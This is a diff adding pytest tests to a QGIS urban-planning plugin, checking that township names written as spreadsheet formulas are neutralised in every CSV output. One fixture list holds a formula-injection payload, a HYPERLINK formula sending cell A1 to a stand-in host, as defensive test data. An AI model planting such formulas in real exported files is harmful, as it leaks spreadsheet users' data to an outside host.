@@ -6,6 +6,7 @@ true — and the input files are left byte for byte as they were.
 Cases run through processing.run with the plugin's provider, and the main
 ones also through qgis_process with the packaged plugin, as a user meets them.
 """
+import csv
 import hashlib
 import json
 import math
@@ -547,3 +548,76 @@ def test_points_outside_mainland_china_through_qgis_process(installed_plugin, tm
     assert payload["results"]["CONVERTED"] == 1 and payload["results"]["OUTSIDE_CHINA"] == len(WEB_POINTS) - 1
     out = {f["name"]: f.geometry().asPoint() for f in QgsVectorLayer(str(tmp_path / "out.gpkg"), "o").getFeatures()}
     assert (out["Seoul"].x(), out["Seoul"].y()) == (126.9780, 37.5665)
+
+
+# --- names a spreadsheet would evaluate ------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "+1+2", "-2+3", "@SUM(1+1)", "=1+1镇"]
+
+
+@pytest.fixture
+def formula_townships(tmp_path):
+    folder = tmp_path / "formulas"
+    folder.mkdir()
+    names = FORMULAS + factory.TOWNSHIP_NAMES[len(FORMULAS):]
+    layer = factory.memory_layer("Polygon", [("name", str)], [
+        (factory.square(X0 + (i % 3) * 2000, Y0 + (i // 3) * 2000, 2000), [name]) for i, name in enumerate(names)])
+    sources = factory.sample_gpkg(folder / "known.gpkg")
+    sources["FORMULAS"] = factory.write(layer, folder / "formulas.gpkg", "formulas")
+    sources["folder"] = folder
+    return sources
+
+
+def _cells(path):
+    with open(path, newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def _number(cell):  # a negative figure (a gap) is a number, not a formula
+    try:
+        float(cell)
+        return True
+    except ValueError:
+        return False
+
+
+def _assert_neutral(path):
+    cells = _cells(path)
+    assert cells, path
+    evaluated = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _number(c)]
+    assert not evaluated, f"{path.name}: {evaluated}"
+    return cells
+
+
+def test_formula_names_are_neutralised_in_every_csv(provider, formula_townships, tmp_path):
+    out = tmp_path / "out"
+    out.mkdir()
+    before = digests(formula_townships["folder"])
+    run("tag_townships", {"INPUT": formula_townships["FORMULAS"], "NAME_FIELD": "name", "CATALOGUE": "jiangjin",
+                          "OUTPUT": str(out / "tagged.csv"), "MATCH_REPORT": str(out / "report.csv")})
+    run("check_builtup", {"BUILTUP": formula_townships["BUILTUP"], "TOWNSHIPS": formula_townships["FORMULAS"],
+                          "TOWNSHIP_NAME_FIELD": "name", "TARGET_VALUE": 5, "OUTPUT": "TEMPORARY_OUTPUT",
+                          "TABLE": str(out / "builtup.csv")})
+    run("check_coverage", {"STOPS": formula_townships["STOPS"], "SERVED_AREA": formula_townships["BUILTUP"],
+                           "TOWNSHIPS": formula_townships["FORMULAS"], "TOWNSHIP_NAME_FIELD": "name", "RADIUS": 500,
+                           "TARGET_VALUE": 90, "TABLE": str(out / "coverage.csv")})
+    for name in ("tagged.csv", "report.csv", "builtup.csv", "coverage.csv"):
+        cells = _assert_neutral(out / name)
+        if name != "report.csv":
+            assert "'" + FORMULAS[1] in cells, (name, cells)  # the name is kept, as text
+    # other formats keep the names as they are
+    results = run("tag_townships", {"INPUT": formula_townships["FORMULAS"], "NAME_FIELD": "name",
+                                    "CATALOGUE": "jiangjin", "OUTPUT": str(out / "tagged.gpkg"),
+                                    "MATCH_REPORT": "TEMPORARY_OUTPUT"})
+    names = {f["name"] for f in QgsVectorLayer(results["OUTPUT"], "t", "ogr").getFeatures()}
+    assert set(FORMULAS) <= names
+    assert digests(formula_townships["folder"]) == before
+
+
+@pytest.mark.slow
+def test_formula_names_are_neutralised_through_qgis_process(installed_plugin, formula_townships, tmp_path):
+    installed_plugin("run", "cq_urban:tag_townships", "--", f"INPUT={formula_townships['FORMULAS']}",
+                     "NAME_FIELD=name", "CATALOGUE=jiangjin", f"OUTPUT={tmp_path / 'tagged.csv'}",
+                     f"MATCH_REPORT={tmp_path / 'report.csv'}")
+    for name in ("tagged.csv", "report.csv"):
+        _assert_neutral(tmp_path / name)
